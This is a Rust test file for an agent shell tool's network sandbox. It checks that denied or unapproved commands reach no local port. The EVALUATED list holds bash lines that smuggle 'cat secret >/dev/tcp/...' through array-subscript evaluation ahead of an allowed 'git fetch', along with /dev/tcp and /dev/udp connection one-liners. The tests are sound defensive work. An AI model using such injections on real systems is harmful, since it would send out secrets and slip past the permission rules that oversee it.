//! Without the network none is reachable, whatever a program tries.

use std::fs;
use std::net::{TcpListener, UdpSocket};

use serde_json::json;

use super::{ran_of, run, scene, there_is};

/// A client in C: no shell and no interpreter between it and the kernel.
const CLIENT: &str = r#"
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
int main(int argc, char **argv) {
  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[1])) };
  inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to) < 0) { perror("connect"); return 1; }
  puts("through");
  return 0;
}
"#;

/// Ways to the port, by the program that each needs.
const TCP: [(&str, &str); 4] = [
    ("bash", "exec 3<>/dev/tcp/127.0.0.1/PORT && echo through"),
    (
        "python3",
        "/usr/bin/python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", PORT), 5); print(\"through\")'",
    ),
    (
        "perl",
        "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"127.0.0.1:PORT\") or die; print \"through\\n\"'",
    ),
    ("cc", "cc -o client client.c && ./client PORT"),
];

fn arrived(listener: &TcpListener) -> usize {
    listener.set_nonblocking(true).expect("it can be asked without waiting");
    std::iter::from_fn(|| listener.accept().ok()).count()
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_without_the_network_reach_no_port() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let port = listener.local_addr().expect("it is bound").port().to_string();
    let client = |root: &std::path::Path| {
        fs::write(root.join("granted/client.c"), CLIENT).expect("the client is written");
    };
    for (network, reaches) in [("deny", false), ("allow", true)] {
        let scene = scene(&[&format!("tools.shell.network={network}")], client).await;
        for (program, command) in TCP.iter().filter(|(program, _)| there_is(program)) {
            let ran = run(&scene, &command.replace("PORT", &port)).await;
            assert_eq!(
                ran.stdout.contains("through"),
                reaches,
                "{program}, network = {network}: {ran:?}"
            );
            assert_eq!(arrived(&listener), usize::from(reaches), "{program}, network = {network}");
        }
        scene.assert_untouched();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn network_needs_approval() {
    if !there_is("cc") {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let port = listener.local_addr().expect("it is bound").port().to_string();
    let client = |root: &std::path::Path| {
        fs::write(root.join("granted/client.c"), CLIENT).expect("the client is written");
    };
    let scene = scene(&["tools.shell.network=ask"], client).await;
    let command = TCP[3].1.replace("PORT", &port);
    // None of its commands is known to need the network, so nobody is asked, and it has none.
    let ran = run(&scene, &command).await;
    assert_ne!(ran.code, 0, "{ran:?}");
    assert_eq!(arrived(&listener), 0);
    // The call declares that it needs it. Without approval it doesn't run, with approval it
    // connects.
    let asks = json!({ "command": command, "network": true });
    assert!(scene.call("bash", asks.clone()).await.outcome.is_err());
    assert_eq!(arrived(&listener), 0);
    assert_eq!(ran_of(&scene, asks).await.stdout, "through\n");
    assert_eq!(arrived(&listener), 1);
}

/// Lines in which bash evaluates a text and so runs it.
const EVALUATED: [&str; 6] = [
    "[[ -v 'a[$(cat secret >/dev/tcp/127.0.0.1/PORT)]' ]]; git fetch origin",
    "[ -v 'a[$(cat secret >/dev/tcp/127.0.0.1/PORT)]' ]; git fetch origin",
    "x='a[$(cat secret >/dev/tcp/127.0.0.1/PORT)]'; [[ $x -eq 1 ]]; git fetch origin",
    "read -r x <<< 'a[$(cat secret >/dev/tcp/127.0.0.1/PORT)]'; (( x )); git fetch origin",
    "printf -v 'a[$(cat secret >/dev/tcp/127.0.0.1/PORT)]' 1; git fetch origin",
    "RANDOM='a[$(cat secret >/dev/tcp/127.0.0.1/PORT)]'; git fetch origin",
];

#[tokio::test(flavor = "multi_thread")]
async fn evaluated_text_does_not_get_the_network() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let port = listener.local_addr().expect("it is bound").port().to_string();
    let secret = |root: &std::path::Path| {
        fs::write(root.join("granted/secret"), "secret").expect("the file is written");
    };
    let allowed = "tools.permissions.bash=[{ pattern = \"git *\", action = \"allow\" }]";
    let scene = scene(&["tools.shell.network=ask", allowed], secret).await;
    for line in EVALUATED {
        let command = json!({ "command": line.replace("PORT", &port) });
        // Nobody approves, and `git *` alone doesn't allow it.
        let answer = scene.call("bash", command.clone()).await;
        assert!(answer.outcome.is_err(), "{line}: {:?}", answer.outcome);
        assert_eq!(arrived(&listener), 0, "{line}");
        // With the network, it would have connected.
        let mut with_network = command;
        with_network["network"] = json!(true);
        super::call(&scene.host, with_network).await;
        assert_eq!(arrived(&listener), 1, "{line}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn commands_without_the_network_send_no_packet() {
    let socket = UdpSocket::bind("127.0.0.1:0").expect("a port is free");
    socket.set_nonblocking(true).expect("it can be asked without waiting");
    let port = socket.local_addr().expect("it is bound").port();
    let command = format!("echo hello > /dev/udp/127.0.0.1/{port}");
    for (network, arrives) in [("deny", false), ("allow", true)] {
        let scene = scene(&[&format!("tools.shell.network={network}")], |_| {}).await;
        run(&scene, &command).await;
        assert_eq!(socket.recv(&mut [0; 16]).is_ok(), arrives, "network = {network}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_can_talk_to_themselves() {
    if !there_is("python3") {
        return;
    }
    let scene = scene(&["tools.shell.network=deny"], |_| {}).await;
    let server = "import socket; s = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); \
                  c = socket.create_connection(s.getsockname()); print(\"through\")";
    let ran = run(&scene, &format!("/usr/bin/python3 -c '{server}'")).await;
    assert_eq!(ran.stdout, "through\n", "{ran:?}");
}
